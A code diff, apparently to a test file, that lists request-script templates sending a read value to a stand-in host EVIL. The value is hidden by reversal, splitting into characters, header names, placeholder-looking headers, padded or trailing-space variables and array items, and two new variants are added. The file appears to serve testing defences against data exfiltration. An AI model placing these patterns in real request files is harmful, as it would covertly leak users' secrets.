@@ -69,6 +69,9 @@ const ways: Readonly<Record<string, Way>> = {
     text: `< {%\nrequest.body = JSON.stringify(Object.fromEntries(${read}.match(/.{1,4}/g).map((x) => [x, true])));\n%}\nPOST EVIL/\n\n[]\n`,
   },
   'the name of a header': { text: `< {%\nrequest.headers["X-" + [...${read}].reverse().join("")] = "1";\n%}\nGET EVIL/\n` },
+  'a header that looks like a placeholder': {
+    text: `# @undefined keep\n< {%\nrequest.headers["X-A"] = "{{ " + [...${read}].reverse().join("") + " }}";\n%}\nGET EVIL/\n`,
+  },
   'its characters in a body': { text: `< {%\nrequest.body = JSON.stringify([...${read}]);\n%}\nPOST EVIL/\n\n[]\n` },
   'its characters in a path': { text: `< {%\nrequest.url += [...${read}].join("/");\n%}\nGET EVIL/\n` },
   'its characters in a query that it writes over another': {
@@ -77,6 +80,9 @@ const ways: Readonly<Record<string, Way>> = {
   'its characters in headers': { text: `< {%\n[...${read}].forEach((c, i) => (request.headers["X-" + i] = c));\n%}\nGET EVIL/\n` },
   'a long variable': {
     text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + "x".repeat(20_000));\n%}\nPOST EVIL/\n\n{{x}}\n`,
+  },
+  'a variable that ends with a space, in a header': {
+    text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + " ");\n%}\nGET EVIL/\nX-A: {{x}}\n`,
   },
   'one of many items of a variable': {
     text: `< {%\ntool.setVar("x", [...Array(300).keys()].concat([...${read}].reverse().join("")));\n%}\nPOST EVIL/\n\n{{x[300]}}\n`,
